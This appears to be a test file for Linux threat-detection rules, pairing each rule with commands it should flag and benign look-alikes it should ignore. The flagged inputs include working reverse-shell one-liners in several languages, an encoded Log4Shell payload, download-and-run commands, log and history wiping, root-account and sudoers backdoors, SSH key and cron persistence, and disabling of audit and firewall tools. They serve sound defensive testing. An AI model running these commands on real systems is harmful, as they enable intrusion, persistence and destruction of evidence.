import { auditExec, lines, linuxFileCreated, linuxProcess, syslogLine } from '../inputs.ts';
import type { RuleCase } from './types.ts';

const JAVA = '/usr/lib/jvm/java-11-openjdk-amd64/bin/java';
// The Log4Shell payload of the OTRF dataset: `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`, base64-encoded.
const LOG4SHELL =
  'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}';

/** Linux process starts (Sysmon for Linux, some through auditd) and auth.log account events. */
export const LINUX_CASES: RuleCase[] = [
  {
    rule: 'linux/reverse-shell.yml',
    fires: [
      linuxProcess('/usr/bin/bash', 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'),
      auditExec('/usr/bin/bash', ['bash', '-c', LOG4SHELL]),
      linuxProcess(
        '/usr/bin/python3',
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
      ),
      linuxProcess('/usr/bin/nc', 'nc 203.0.113.5 4444 -e /bin/sh'),
      linuxProcess('/usr/bin/ncat', 'ncat --sh-exec bash 203.0.113.5 4444'),
      linuxProcess('/usr/bin/ncat', 'ncat --exec /usr/bin/bash 203.0.113.5 4444'),
      linuxProcess('/bin/busybox', 'busybox nc 203.0.113.5 4444 -e sh'),
      linuxProcess(
        '/usr/bin/perl',
        'perl -MIO::Socket::INET -e $c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
      ),
      // Sysmon for Linux joins argv with spaces and no quotes, as here
      linuxProcess(
        '/usr/bin/bash',
        'bash -c mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc 203.0.113.5 4444 1>/tmp/backpipe',
      ),
      linuxProcess('/usr/bin/sh', 'sh -c telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445'),
      linuxProcess(
        '/usr/bin/gawk',
        'awk BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}',
      ),
    ],
    misses: [
      { why: 'bash -i not redirected to /dev/tcp', input: linuxProcess('/usr/bin/bash', 'bash -i') },
      { why: 'netcat checking a port, no shell', input: linuxProcess('/usr/bin/nc', 'nc -zv 10.0.0.5 22') },
      {
        why: 'ncat -C (CRLF line ends, case-insensitively -c) talking SMTP',
        input: linuxProcess('/usr/bin/ncat', 'ncat -C mail.example.com 25'),
      },
      {
        why: "busybox's sed applet with -e",
        input: linuxProcess('/bin/busybox', 'busybox sed -e s/old/new/ /etc/hosts'),
      },
      {
        why: 'telnet output saved, not piped to a shell',
        input: linuxProcess('/usr/bin/sh', 'sh -c telnet mail.example.com 25 > /tmp/banner'),
      },
    ],
  },
  {
    rule: 'linux/download-then-run.yml',
    fires: [
      linuxProcess('/usr/bin/bash', 'bash -c "curl -fsSL http://203.0.113.5/x.sh | bash"'),
      auditExec('/usr/bin/dash', [
        'sh',
        '-c',
        'cd /tmp && wget -q http://203.0.113.5/m && chmod +x m && ./m',
      ]),
      linuxProcess(
        '/usr/bin/bash',
        'bash -c curl -o /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x',
      ),
      linuxProcess(
        '/usr/bin/sh',
        'sh -c wget http://203.0.113.5/k -O /var/tmp/k; chmod 777 /var/tmp/k; /var/tmp/k',
      ),
      linuxProcess('/usr/bin/bash', 'bash -c bash <(curl -s http://203.0.113.5/x.sh)'),
      linuxProcess('/usr/bin/bash', 'bash -c sh -c "$(curl -fsSL http://203.0.113.5/x.sh)"'),
    ],
    misses: [
      {
        why: 'a download saved, not run',
        input: linuxProcess(
          '/usr/bin/curl',
          'curl -fsSLo /usr/local/share/ca.pem https://pki.example.com/ca.pem',
        ),
      },
      {
        why: 'a download piped to a JSON filter, not a shell',
        input: linuxProcess('/usr/bin/bash', 'bash -c "curl -s https://api.example.com/v1/status | jq ."'),
      },
      {
        why: 'a tool downloaded via /tmp, made executable and installed, not run',
        input: linuxProcess(
          '/usr/bin/bash',
          'bash -c curl -Lo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x /tmp/kubectl && sudo mv /tmp/kubectl /usr/local/bin/',
        ),
      },
      {
        why: 'a download kept in a variable, not run',
        input: linuxProcess(
          '/usr/bin/bash',
          'bash -c TOKEN=$(curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token)',
        ),
      },
    ],
  },
  {
    rule: 'linux/suspicious-file-download.yml',
    fires: [
      linuxProcess('/usr/bin/wget', 'wget http://203.0.113.5/kworker -O /tmp/kworker'),
      auditExec('/usr/bin/curl', ['curl', '-o', 'payload', 'http://203.0.113.5:8080/payload']),
    ],
    misses: [
      {
        why: 'a download by host name into /opt',
        input: linuxProcess(
          '/usr/bin/wget',
          'wget https://releases.example.com/tool.tar.gz -O /opt/tool.tar.gz',
        ),
      },
    ],
  },
  {
    rule: 'linux/base64-command.yml',
    fires: [
      linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
      linuxProcess('/usr/bin/python3', `python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`),
      linuxProcess(
        '/usr/bin/bash',
        'bash -c bash -c "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveA== | base64 -d)"',
      ),
    ],
    misses: [
      { why: 'decoded into a file', input: linuxProcess('/usr/bin/base64', 'base64 -d cert.b64') },
      {
        why: 'decoded text paged, not run',
        input: linuxProcess('/usr/bin/bash', 'bash -c "echo aGVsbG8= | base64 -d | less"'),
      },
      {
        why: 'decoded text kept in a variable, not run',
        input: linuxProcess('/usr/bin/bash', 'bash -c CERT=$(echo aGVsbG8= | base64 -d)'),
      },
    ],
  },
  {
    rule: 'linux/history-cleared.yml',
    fires: [
      linuxProcess('/usr/bin/rm', 'rm -f /root/.bash_history'),
      linuxProcess('/usr/bin/bash', "bash -c 'history -c'"),
      auditExec('/usr/bin/ln', ['ln', '-sf', '/dev/null', '/home/bob/.bash_history']),
      linuxProcess('/usr/bin/bash', 'bash -c >/root/.bash_history'),
    ],
    misses: [
      { why: 'reading a history file', input: linuxProcess('/usr/bin/cat', 'cat /root/.bash_history') },
      {
        why: 'searching a history file',
        input: linuxProcess('/usr/bin/grep', 'grep ssh /root/.bash_history'),
      },
    ],
  },
  {
    rule: 'linux/log-tampering.yml',
    fires: [
      linuxProcess('/usr/bin/rm', 'rm -rf /var/log/auth.log /var/log/syslog'),
      linuxProcess('/usr/bin/bash', "bash -c 'cat /dev/null > /var/log/wtmp'"),
      linuxProcess('/usr/bin/journalctl', 'journalctl --vacuum-time=1s'),
      linuxProcess('/usr/bin/journalctl', 'journalctl --rotate --vacuum-size=1K'),
      linuxProcess('/usr/bin/rm', 'rm -rf /run/log/journal/*'),
      linuxProcess('/usr/bin/find', 'find /var/log -type f -delete'),
      linuxProcess('/usr/bin/rm', 'rm -f /var/log/sysstat/../auth.log'),
      linuxProcess('/usr/bin/rm', 'rm -rf /var/log', {
        parentImage: '/usr/bin/dash',
        parentCommandLine: '/bin/sh /var/lib/dpkg/info/../../../../tmp/x.postrm purge',
      }),
    ],
    misses: [
      { why: 'reading a log', input: linuxProcess('/usr/bin/tail', 'tail -n 50 /var/log/auth.log') },
      {
        why: 'logrotate removing an old rotation',
        input: linuxProcess('/usr/bin/rm', 'rm /var/log/syslog.7.gz', { parentImage: '/usr/sbin/logrotate' }),
      },
      {
        why: "sysstat's daily job removing an old data file",
        input: linuxProcess('/usr/bin/rm', 'rm -f /var/log/sysstat/sa28'),
      },
      {
        why: "Ubuntu's boot scripts removing an old dmesg copy",
        input: linuxProcess('/usr/bin/rm', 'rm -f -- /var/log//dmesg.4.gz'),
      },
      {
        why: "a package's purge removing its own logs",
        input: linuxProcess('/usr/bin/rm', 'rm -rf /var/log/nginx', {
          parentImage: '/usr/bin/dash',
          parentCommandLine: '/bin/sh /var/lib/dpkg/info/nginx-common.postrm purge',
        }),
      },
      {
        why: 'finding old logs without deleting them',
        input: linuxProcess('/usr/bin/find', 'find /var/log -name *.gz -mtime +30'),
      },
    ],
  },
  {
    rule: 'linux/auditd-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/auditctl', 'auditctl -e 0'),
      auditExec('/usr/bin/systemctl', ['systemctl', 'stop', 'auditd']),
    ],
    misses: [
      { why: 'listing audit rules', input: linuxProcess('/usr/sbin/auditctl', 'auditctl -l') },
      { why: 'checking the service', input: linuxProcess('/usr/bin/systemctl', 'systemctl status auditd') },
    ],
  },
  {
    rule: 'linux/audit-config-disabled.yml',
    fires: [
      lines(
        'type=CONFIG_CHANGE msg=audit(1732788000.100:800): auid=1000 ses=3 subj=unconfined op=set audit_enabled=0 old=1 res=1',
      ),
    ],
    misses: [
      {
        why: 'auditing switched on',
        input: lines(
          'type=CONFIG_CHANGE msg=audit(1732788000.100:800): auid=1000 ses=3 subj=unconfined op=set audit_enabled=1 old=0 res=1',
        ),
      },
    ],
  },
  {
    rule: 'linux/firewall-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/ufw', 'ufw disable'),
      auditExec('/usr/sbin/iptables', ['iptables', '-F']),
      // what Sysmon for Linux really records: ufw is a Python script, iptables a link to xtables-nft-multi
      linuxProcess('/usr/bin/python3.10', '/usr/bin/python3 /usr/sbin/ufw --force disable'),
      linuxProcess('/usr/sbin/xtables-nft-multi', 'iptables -t nat -F'),
      auditExec('/usr/sbin/xtables-legacy-multi', ['iptables', '-F', 'INPUT']),
    ],
    misses: [
      { why: 'listing rules', input: linuxProcess('/usr/sbin/iptables', 'iptables -L -n') },
      {
        why: 'enabling the firewall',
        input: linuxProcess('/usr/bin/python3.10', '/usr/bin/python3 /usr/sbin/ufw enable'),
      },
      {
        why: 'Docker flushing its own chain',
        input: linuxProcess('/usr/sbin/iptables', 'iptables --wait -t nat -F DOCKER', {
          parentImage: '/usr/bin/dockerd',
        }),
      },
      {
        why: 'fail2ban deleting its own chain',
        input: linuxProcess('/usr/sbin/xtables-nft-multi', 'iptables -w -X f2b-sshd'),
      },
    ],
  },
  {
    rule: 'linux/account-created.yml',
    fires: [
      lines(
        syslogLine(
          0,
          'useradd[2001]',
          'new user: name=deploy, UID=1001, GID=1001, home=/home/deploy, shell=/bin/bash, from=/dev/pts/0',
        ),
      ),
    ],
    misses: [
      {
        why: 'useradd failed',
        input: lines(syslogLine(0, 'useradd[2001]', "failed adding user 'deploy', exit code: 9")),
      },
    ],
  },
  {
    rule: 'linux/suspicious-account-created.yml',
    fires: [
      lines(
        syslogLine(
          0,
          'useradd[2001]',
          'new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
        ),
      ),
    ],
    misses: [
      {
        why: 'an ordinary user id',
        input: lines(
          syslogLine(
            0,
            'useradd[2001]',
            'new user: name=sysadm, UID=1002, GID=1002, home=/home/sysadm, shell=/bin/bash',
          ),
        ),
      },
    ],
  },
  {
    rule: 'linux/sudo-group-addition.yml',
    fires: [
      lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to group 'sudo'")),
      lines(
        syslogLine(0, 'useradd[2003]', "add 'mallory' to group 'sudo'"),
        syslogLine(0, 'useradd[2003]', "add 'mallory' to shadow group 'sudo'"),
      ),
      lines(syslogLine(0, 'gpasswd[2005]', 'user mallory added by root to group wheel')),
    ],
    misses: [
      {
        why: 'a group without sudo rights',
        input: lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to group 'docker'")),
      },
      {
        why: 'the /etc/gshadow line of a change (its /etc/group line is the one counted)',
        input: lines(syslogLine(0, 'usermod[2002]', "add 'mallory' to shadow group 'sudo'")),
      },
    ],
  },
  {
    rule: 'linux/sudo-group-addition-command.yml',
    fires: [
      linuxProcess('/usr/sbin/usermod', 'usermod -aG sudo mallory'),
      auditExec('/usr/sbin/usermod', ['usermod', '-a', '-G', 'adm,wheel', 'mallory']),
      linuxProcess('/usr/sbin/usermod', 'usermod --append --groups=docker,admin mallory'),
      linuxProcess('/usr/bin/gpasswd', 'gpasswd -a mallory sudo'),
      // Debian's adduser is a Perl script: the image is perl
      linuxProcess('/usr/bin/perl', '/usr/bin/perl /usr/sbin/adduser mallory sudo'),
    ],
    misses: [
      {
        why: 'a group without sudo rights',
        input: linuxProcess('/usr/sbin/usermod', 'usermod -aG docker mallory'),
      },
      {
        why: 'a group whose name only starts with sudo',
        input: linuxProcess('/usr/sbin/usermod', 'usermod -aG sudoers_audit mallory'),
      },
      {
        why: "cloud-init creating the VM's admin user at provisioning",
        input: linuxProcess(
          '/usr/sbin/useradd',
          'useradd azureuser --comment azureuser --groups adm,admin,cdrom,dip,lxd,sudo --shell /bin/bash -m',
          {
            parentImage: '/usr/bin/python3.10',
            parentCommandLine: '/usr/bin/python3 /usr/bin/cloud-init init',
          },
        ),
      },
    ],
  },
  {
    rule: 'linux/account-created-command.yml',
    fires: [
      linuxProcess('/usr/sbin/useradd', 'useradd -m -s /bin/bash backdoor'),
      auditExec('/usr/sbin/useradd', ['useradd', 'svc-backup']),
    ],
    misses: [
      {
        why: "a package's maintainer script creating its service account",
        input: linuxProcess('/usr/sbin/useradd', 'useradd --system --home /var/lib/chrony chrony', {
          parentImage: '/usr/bin/dash',
          parentCommandLine: '/bin/sh /var/lib/dpkg/info/chrony.postinst configure',
        }),
      },
      {
        why: "cloud-init creating the VM's admin user at provisioning",
        input: linuxProcess('/usr/sbin/useradd', 'useradd azureuser --groups adm,sudo --shell /bin/bash -m', {
          parentImage: '/usr/bin/python3.10',
          parentCommandLine: '/usr/bin/python3 /usr/bin/cloud-init init',
        }),
      },
      { why: 'changing an account', input: linuxProcess('/usr/sbin/usermod', 'usermod -s /bin/zsh bob') },
    ],
  },
  {
    rule: 'linux/suspicious-account-created-command.yml',
    fires: [
      linuxProcess('/usr/sbin/useradd', 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor'),
      linuxProcess('/usr/sbin/useradd', 'useradd --non-unique --uid=0 toor'),
      auditExec('/usr/sbin/usermod', ['usermod', '-o', '-u', '0', 'mallory']),
    ],
    misses: [
      { why: 'an ordinary user id', input: linuxProcess('/usr/sbin/useradd', 'useradd -u 1000 -m bob') },
      { why: 'a user id ending in 0', input: linuxProcess('/usr/sbin/usermod', 'usermod -u 2000 bob') },
    ],
  },
  {
    rule: 'linux/sudoers-modified.yml',
    fires: [
      linuxProcess('/usr/bin/bash', `bash -c "echo 'mallory ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"`),
      linuxProcess('/usr/bin/tee', 'tee -a /etc/sudoers.d/90-cloud-init-users'),
    ],
    misses: [
      {
        why: 'visudo checking the syntax',
        input: linuxProcess('/usr/sbin/visudo', 'visudo -c -f /etc/sudoers'),
      },
      { why: 'reading sudoers', input: linuxProcess('/usr/bin/cat', 'cat /etc/sudoers') },
    ],
  },
  {
    rule: 'linux/ssh-key-added.yml',
    fires: [
      linuxProcess(
        '/usr/bin/bash',
        'bash -c "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 mallory >> /root/.ssh/authorized_keys"',
      ),
      linuxProcess('/usr/bin/ssh-copy-id', 'ssh-copy-id -i key.pub root@10.0.0.7'),
    ],
    misses: [
      { why: 'listing the keys', input: linuxProcess('/usr/bin/cat', 'cat /root/.ssh/authorized_keys') },
    ],
  },
  {
    rule: 'linux/ssh-key-file-written.yml',
    fires: [linuxFileCreated('/usr/bin/bash', '/root/.ssh/authorized_keys')],
    misses: [
      { why: 'known_hosts written', input: linuxFileCreated('/usr/bin/ssh', '/root/.ssh/known_hosts') },
    ],
  },
  {
    rule: 'linux/cron-suspicious-command.yml',
    fires: [lines(syslogLine(0, 'CRON[2004]', '(root) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)'))],
    misses: [
      {
        why: "a package's hourly jobs run by root",
        input: lines(
          syslogLine(0, 'CRON[2004]', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)'),
        ),
      },
    ],
  },
  {
    rule: 'linux/cron-file-written.yml',
    fires: [
      linuxProcess('/usr/bin/bash', 'bash -c echo "* * * * * root /tmp/.x/run" > /etc/cron.d/sys'),
      linuxProcess('/usr/bin/bash', 'bash -c echo "*/5 * * * * root /dev/shm/k" >> /etc/crontab'),
      auditExec('/usr/bin/cp', ['cp', '/tmp/u', '/var/spool/cron/crontabs/root']),
      linuxProcess('/usr/bin/tee', 'tee -a /etc/crontab'),
    ],
    misses: [
      { why: 'reading the system crontab', input: linuxProcess('/usr/bin/cat', 'cat /etc/crontab') },
      { why: 'listing cron.d', input: linuxProcess('/usr/bin/ls', 'ls -l /etc/cron.d/') },
      {
        why: 'a cron.daily job being run',
        input: linuxProcess('/usr/bin/run-parts', 'run-parts --report /etc/cron.daily/'),
      },
    ],
  },
  {
    rule: 'linux/crontab-modified.yml',
    fires: [lines(syslogLine(0, 'crontab[2003]', '(mallory) REPLACE (mallory)'))],
    misses: [
      {
        why: "cron reloading a package's file in /etc/cron.d",
        input: lines(syslogLine(0, 'cron[900]', '(*system*) RELOAD (/etc/cron.d/certbot)')),
      },
    ],
  },
  {
    rule: 'linux/crypto-miner.yml',
    fires: [
      linuxProcess(
        '/tmp/.x/xmrig',
        '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 -u 4Axyz --donate-level 1',
      ),
      auditExec('/usr/local/bin/kswapd', ['kswapd', '--algo=rx/0', '-o', 'pool.example.net:443']),
    ],
    misses: [
      {
        why: 'a data mining script',
        input: linuxProcess('/usr/bin/python3', 'python3 /opt/etl/data_mining.py --input /data'),
      },
    ],
  },
  {
    rule: 'linux/web-shell.yml',
    fires: [
      linuxProcess('/bin/sh', 'sh -c id', { parentImage: '/usr/sbin/apache2', user: 'www-data' }),
      linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
      linuxProcess('/usr/bin/dash', 'sh -c id', { parentImage: '/usr/bin/php8.1', user: 'www-data' }),
      linuxProcess('/usr/bin/dash', 'sh -c uname -a', { parentImage: '/usr/bin/node', user: 'www-data' }),
      // auditd names no parent executable, but its ENRICHED format names the account (UID="www-data")
      lines(
        `type=SYSCALL msg=audit(1732788000.000:700): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"`,
        'type=EXECVE msg=audit(1732788000.000:700): argc=3 a0="sh" a1="-c" a2="id"',
      ),
    ],
    misses: [
      {
        why: "a web application's cron job, run as the web server's account",
        input: linuxProcess('/usr/bin/dash', 'sh -c php -f /var/www/nextcloud/cron.php', {
          parentImage: '/usr/sbin/cron',
          user: 'www-data',
        }),
      },
      {
        why: 'a web server spawning a non-shell',
        input: linuxProcess('/usr/bin/convert', 'convert in.png out.jpg', {
          parentImage: '/usr/sbin/php-fpm8.1',
          user: 'www-data',
        }),
      },
      {
        why: 'java running as a build account, not an application server',
        input: linuxProcess('/bin/bash', 'bash build.sh', { parentImage: JAVA, user: 'jenkins' }),
      },
    ],
  },
  {
    rule: 'linux/suspicious-path-execution.yml',
    fires: [linuxProcess('/dev/shm/.k/kworker', '/dev/shm/.k/kworker'), auditExec('/tmp/x', ['/tmp/x'])],
    misses: [
      {
        why: 'a system interpreter running a script in /tmp',
        input: linuxProcess('/usr/bin/python3', 'python3 /tmp/setup.py'),
      },
    ],
  },
  {
    rule: 'linux/credential-access-tool.yml',
    fires: [linuxProcess('/usr/sbin/unshadow', 'unshadow /etc/passwd /etc/shadow')],
    misses: [{ why: 'a home directory named john', input: linuxProcess('/usr/bin/ls', 'ls /home/john') }],
  },
  {
    rule: 'linux/attack-tool.yml',
    fires: [
      linuxProcess('/usr/bin/masscan', 'masscan 10.0.0.0/8 -p22 --rate 10000'),
      // the interpreter is the image of a script
      linuxProcess(
        '/usr/bin/python3.11',
        '/usr/bin/python3 /usr/bin/sqlmap -u http://10.0.0.7/?id=1 --batch',
      ),
      linuxProcess('/usr/bin/perl', '/usr/bin/perl /usr/bin/nikto -h 10.0.0.7'),
    ],
    misses: [
      { why: 'a ping', input: linuxProcess('/usr/bin/ping', 'ping -c 1 10.0.0.5') },
      {
        why: 'reading the sqlmap documentation',
        input: linuxProcess('/usr/bin/less', 'less /usr/share/doc/sqlmap/README.md'),
      },
    ],
  },
  {
    rule: 'linux/shadow-file-access.yml',
    fires: [
      linuxProcess('/usr/bin/cat', 'cat /etc/shadow'),
      auditExec('/usr/bin/cp', ['cp', '/etc/shadow', '/tmp/s']),
    ],
    misses: [{ why: 'listing its permissions', input: linuxProcess('/usr/bin/ls', 'ls -l /etc/shadow') }],
  },
  {
    rule: 'linux/crypt-password-change.yml',
    fires: [
      linuxProcess('/usr/sbin/usermod', "usermod -p '$6$salt$Qy0.hash' root"),
      linuxProcess('/usr/sbin/chpasswd', 'chpasswd -e'),
    ],
    misses: [{ why: 'locking an account', input: linuxProcess('/usr/sbin/usermod', 'usermod -L mallory') }],
  },
  {
    rule: 'linux/kernel-module-load.yml',
    fires: [linuxProcess('/usr/sbin/insmod', 'insmod /tmp/diamorphine.ko')],
    misses: [
      {
        why: 'a module from the system tree',
        input: linuxProcess('/usr/sbin/modprobe', 'modprobe nf_conntrack'),
      },
    ],
  },
  {
    rule: 'linux/nohup-suspicious.yml',
    fires: [
      linuxProcess('/usr/bin/nohup', 'nohup /tmp/kdevtmpfsi'),
      linuxProcess('/usr/bin/nohup', 'nohup ./.cache-svc -B'),
    ],
    misses: [
      {
        why: 'an application kept running',
        input: linuxProcess('/usr/bin/nohup', 'nohup /usr/bin/python3 /opt/app/server.py'),
      },
    ],
  },
  {
    rule: 'linux/hidden-file-execution.yml',
    fires: [linuxProcess('/home/bob/.config/.svc/kthreadd', '/home/bob/.config/.svc/kthreadd')],
    misses: [
      { why: 'a tool under ~/.local/bin', input: linuxProcess('/home/bob/.local/bin/pipx', 'pipx list') },
    ],
  },
  {
    rule: 'linux/suspicious-compilation.yml',
    fires: [linuxProcess('/usr/bin/gcc', 'gcc /tmp/dirtypipe.c -o /tmp/dp')],
    misses: [
      {
        why: 'compiling in a project',
        input: linuxProcess('/usr/bin/gcc', 'gcc -O2 src/main.c -o build/app'),
      },
    ],
  },
  {
    rule: 'linux/port-forwarding.yml',
    fires: [
      linuxProcess('/usr/bin/socat', 'socat TCP-LISTEN:8080,fork TCP:203.0.113.5:443'),
      linuxProcess('/usr/bin/ssh', 'ssh -fNR 2222:localhost:22 tunnel@203.0.113.5'),
      linuxProcess(
        '/usr/sbin/xtables-nft-multi',
        'iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination 203.0.113.5:443',
      ),
    ],
    misses: [
      {
        why: 'a local forward to reach a database',
        input: linuxProcess('/usr/bin/ssh', 'ssh -L 5432:db:5432 bastion'),
      },
    ],
  },
  {
    rule: 'linux/screenshot.yml',
    fires: [linuxProcess('/usr/bin/import', 'import -window root /tmp/s.png')],
    misses: [
      {
        why: 'one window captured on purpose',
        input: linuxProcess('/usr/bin/import', 'import -window 0x3a00007 /tmp/w.png'),
      },
    ],
  },
  {
    rule: 'linux/timestamp-tampering.yml',
    fires: [linuxProcess('/usr/bin/touch', 'touch -r /bin/ls /usr/bin/.backdoor')],
    misses: [{ why: 'touch creating a file', input: linuxProcess('/usr/bin/touch', 'touch /tmp/ready') }],
  },
  {
    rule: 'linux/apt-timer-stopped.yml',
    fires: [linuxProcess('/usr/bin/systemctl', 'systemctl disable --now apt-daily-upgrade.timer')],
    misses: [
      {
        why: 'checking the timer',
        input: linuxProcess('/usr/bin/systemctl', 'systemctl status apt-daily-upgrade.timer'),
      },
    ],
  },
  {
    rule: 'linux/security-tool-disabled.yml',
    fires: [
      linuxProcess('/usr/sbin/setenforce', 'setenforce 0'),
      auditExec('/usr/bin/systemctl', ['systemctl', 'stop', 'mdatp']),
    ],
    misses: [
      { why: 'SELinux set to enforcing', input: linuxProcess('/usr/sbin/setenforce', 'setenforce 1') },
      { why: 'the agent restarted', input: linuxProcess('/usr/bin/systemctl', 'systemctl restart mdatp') },
    ],
  },
  {
    rule: 'linux/persistence-startup-script.yml',
    fires: [
      linuxProcess('/usr/bin/bash', `bash -c "echo '/tmp/.x/run &' >> /etc/rc.local"`),
      linuxProcess('/usr/bin/cp', 'cp /tmp/x.service /etc/systemd/system/x.service'),
    ],
    misses: [
      {
        why: 'reading a unit file',
        input: linuxProcess('/usr/bin/cat', 'cat /etc/systemd/system/ssh.service'),
      },
      {
        why: 'enabling a service by name',
        input: linuxProcess('/usr/bin/systemctl', 'systemctl enable nginx'),
      },
    ],
  },
  {
    rule: 'linux/python-encoded-downloader.yml',
    fires: [
      linuxProcess(
        '/usr/bin/python3',
        `python3 -c "import base64,urllib.request;exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/p').read()))"`,
      ),
    ],
    misses: [
      {
        why: 'decoding without fetching anything',
        input: linuxProcess('/usr/bin/python3', `python3 -c "import base64;print(base64.b64decode('aGk='))"`),
      },
    ],
  },
];
